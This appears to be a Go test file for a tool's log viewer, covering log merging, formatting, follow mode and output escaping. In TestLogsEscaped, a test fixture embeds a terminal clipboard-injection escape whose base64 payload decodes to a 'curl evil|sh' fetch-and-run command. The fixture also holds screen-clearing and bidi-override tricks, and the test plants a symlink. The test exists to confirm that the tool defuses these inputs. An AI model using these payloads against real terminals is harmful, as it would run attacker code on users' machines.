package main

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/clstr-dev/clstr/internal/runlog"
)

// A run's logs as attest/docker and the event log write them: n1 and n2's
// output and the runner's events, each file in its own order.
const (
	eventsLog = `2026-11-25T07:05:00.100000000Z n1 [START]
2026-11-25T07:05:00.200000000Z n2 [START]
2026-11-25T07:05:00.500000000Z ** [CLUSTER READY]
2026-11-25T07:05:00.510000000Z ** [TEST: Leader Elected]
2026-11-25T07:05:01.000000000Z n1 [KILL]
`
	n1Log = `2026-11-25T07:05:00.150000000Z stdout n1 up
2026-11-25T07:05:00.700000000Z stderr n1 became leader
`
	n2Log = `2026-11-25T07:05:00.250000000Z stdout n2 up
2026-11-25T07:05:01.100000000Z stdout n2 lost the leader
`
)

func writeLogs(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, data := range files {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// plain renders lines without colour and in UTC, as the tests expect them.
func plain(lines []runlog.Line) string {
	var b strings.Builder
	f := &logFormat{loc: time.UTC}
	for _, l := range lines {
		b.WriteString(f.format(l) + "\n")
	}
	return b.String()
}

func TestLogsMerge(t *testing.T) {
	dir := writeLogs(t, map[string]string{"events.log": eventsLog, "n1.log": n1Log, "n2.log": n2Log})
	tests := []struct {
		name  string
		nodes []string
		want  string
	}{
		{name: "every node", want: `07:05:00.100 [n1] [START]
07:05:00.150 [n1] n1 up
07:05:00.200 [n2] [START]
07:05:00.250 [n2] n2 up
07:05:00.500 [**] [CLUSTER READY]
07:05:00.510 [**] [TEST: Leader Elected]
07:05:00.700 [n1] n1 became leader
07:05:01.000 [n1] [KILL]
07:05:01.100 [n2] n2 lost the leader
`},
		{name: "one node and the cluster's events", nodes: []string{"n2"}, want: `07:05:00.200 [n2] [START]
07:05:00.250 [n2] n2 up
07:05:00.500 [**] [CLUSTER READY]
07:05:00.510 [**] [TEST: Leader Elected]
07:05:01.100 [n2] n2 lost the leader
`},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := runlog.NewReader(dir, tc.nodes)
			lines, err := r.Read()
			if err != nil {
				t.Fatal(err)
			}
			if got := plain(lines); got != tc.want {
				t.Errorf("got:\n%s\nwant:\n%s", got, tc.want)
			}
			if m := r.Missing(); len(m) > 0 {
				t.Errorf("missing %v", m)
			}
		})
	}
}

func TestLogsUnknownNode(t *testing.T) {
	dir := writeLogs(t, map[string]string{"events.log": eventsLog, "n1.log": n1Log, "n2.log": n2Log})
	r := runlog.NewReader(dir, []string{"n1", "n7"})
	lines, err := r.Read()
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(r.Missing(), ","); got != "n7" {
		t.Errorf("missing %q; want n7", got)
	}
	if got := strings.Join(r.Known(), ","); got != "n1,n2" {
		t.Errorf("known %q; want n1,n2", got)
	}
	for _, l := range lines {
		if l.Node == "n2" {
			t.Errorf("n2's line shown when n1 was asked for: %+v", l)
		}
	}
}

func TestLogsFormat(t *testing.T) {
	ts := time.Date(2026, 11, 25, 7, 5, 0, 0, time.UTC)
	const local = "07:05:00.000"
	tests := []struct {
		name  string
		line  runlog.Line
		color bool
		want  string
	}{
		{"output", runlog.Line{Time: ts, Node: "n3", Stream: runlog.Stdout, Text: "hello"}, false, local + " [n3] hello"},
		{"cluster event", runlog.Line{Time: ts, Stream: runlog.Events, Text: "CLUSTER READY"}, false, local + " [**] [CLUSTER READY]"},
		{"node event", runlog.Line{Time: ts, Node: "n1", Stream: runlog.Events, Text: "KILL"}, false, local + " [n1] [KILL]"},
		{"colour", runlog.Line{Time: ts, Node: "n2", Stream: runlog.Stderr, Text: "oops"}, true,
			"\x1b[2m" + local + "\x1b[0m \x1b[35m[n2]\x1b[0m \x1b[31moops\x1b[0m"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := (&logFormat{color: tc.color, loc: time.UTC}).format(tc.line); got != tc.want {
				t.Errorf("got %q; want %q", got, tc.want)
			}
		})
	}
}

func TestLogsBadLinesShown(t *testing.T) {
	dir := writeLogs(t, map[string]string{"n1.log": "2026-11-25T07:05:00Z stdout fine\nnot a log line\n"})
	lines, err := runlog.NewReader(dir, nil).Read()
	if err != nil {
		t.Fatal(err)
	}
	if len(lines) != 2 || lines[1].Text != "not a log line" {
		t.Errorf("a line not in the format must be shown as it is: %+v", lines)
	}
}

// syncBuffer is a bytes.Buffer safe for a writer and a reader.
type syncBuffer struct {
	mu sync.Mutex // guards b
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

// TestLogsFollow checks that --follow prints what is there, then what is
// written later, and stops when its context ends.
func TestLogsFollow(t *testing.T) {
	dir := t.TempDir()
	var out syncBuffer
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- followLogs(ctx, dir, nil, &out, &logFormat{loc: time.UTC}, 10*time.Millisecond) }()

	waitFor := func(want string) {
		t.Helper()
		deadline := time.Now().Add(10 * time.Second)
		for !strings.Contains(out.String(), want) {
			if time.Now().After(deadline) {
				t.Fatalf("follow did not print %q within 10s; printed:\n%s", want, out.String())
			}
			time.Sleep(10 * time.Millisecond)
		}
	}
	// The logs appear once a run starts.
	if err := os.WriteFile(filepath.Join(dir, "events.log"), []byte("2026-11-25T07:05:00.5Z ** [CLUSTER READY]\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	waitFor("[**] [CLUSTER READY]")
	f, err := os.OpenFile(filepath.Join(dir, "n1.log"), os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	f.WriteString("2026-11-25T07:05:01Z stdout serving\n")
	waitFor("[n1] serving")
	f.WriteString("2026-11-25T07:05:02Z stderr half a li")
	time.Sleep(50 * time.Millisecond)
	if strings.Contains(out.String(), "half") {
		t.Errorf("follow printed a line before it ended:\n%s", out.String())
	}
	f.WriteString("ne\n")
	waitFor("[n1] half a line")

	// A new run recreates the directory; follow goes on with its logs.
	if err := os.RemoveAll(dir); err != nil {
		t.Fatal(err)
	}
	os.MkdirAll(dir, 0o755)
	if err := os.WriteFile(filepath.Join(dir, "events.log"), []byte("2026-11-25T07:06:00Z n1 [START]\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	waitFor("── a new run ──\n07:06:00.000 [n1] [START]")

	cancel()
	select {
	case err := <-done:
		if err != nil {
			t.Errorf("follow: %v", err)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("follow did not stop when its context ended")
	}
	if n := strings.Count(out.String(), "serving"); n != 1 {
		t.Errorf("a line was printed %d times:\n%s", n, out.String())
	}
}

// TestLogsEscaped checks that clstr logs, --follow and --html show a
// node's output with its controls escaped, as a failure does: an OSC 52
// clipboard write, a screen clear, BEL, CR and a bidi override that a
// script sent as a body and the node logged.
func TestLogsEscaped(t *testing.T) {
	hostile := "got \x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\rforged \u202egnp.exe \u009b31m"
	dir := t.TempDir()
	logs := filepath.Join(dir, logDir)
	os.MkdirAll(logs, 0o755)
	os.WriteFile(filepath.Join(logs, "events.log"), []byte(eventsLog), 0o644)
	os.WriteFile(filepath.Join(logs, "n1.log"), []byte("2026-11-25T07:05:00.150000000Z stdout "+hostile+"\n"), 0o644)
	t.Chdir(dir)
	raw := func(what, out string) {
		t.Helper()
		if strings.ContainsAny(out, "\x1b\x07\r\u202e\u009b") {
			t.Errorf("%s shows raw controls:\n%q", what, out)
		}
		if !strings.Contains(out, `\x1b]52;c;`) {
			t.Errorf("%s does not show the escaped text:\n%q", what, out)
		}
	}

	var out, errs bytes.Buffer
	if st := run(context.Background(), []string{"clstr", "logs"}, &out, &errs); st != 0 {
		t.Fatalf("clstr logs: exit %d: %s", st, errs.String())
	}
	raw("clstr logs", out.String())

	var follow syncBuffer
	ctx, cancel := context.WithTimeout(context.Background(), 500*time.Millisecond)
	defer cancel()
	run(ctx, []string{"clstr", "logs", "--follow"}, &follow, &errs)
	raw("clstr logs --follow", follow.String())

	// A link planted at the page's name is replaced, not written through.
	victim := filepath.Join(t.TempDir(), "victim")
	os.WriteFile(victim, []byte("precious"), 0o644)
	os.Symlink(victim, filepath.Join(dir, "logs.html"))
	out.Reset()
	if st := run(context.Background(), []string{"clstr", "logs", "--html", "logs.html"}, &out, &errs); st != 0 {
		t.Fatalf("clstr logs --html: exit %d: %s", st, errs.String())
	}
	page, err := os.ReadFile(filepath.Join(dir, "logs.html"))
	if err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(victim); string(b) != "precious" {
		t.Errorf("clstr logs --html wrote through a link: %q", b)
	}
	// The page holds the text as JSON, which encodes controls; what the
	// page shows is the escaped form.
	if !strings.Contains(string(page), `\\x1b]52;c;`) || strings.Contains(string(page), `\u001b`) {
		t.Errorf("the logs page does not show the node's controls escaped")
	}
}
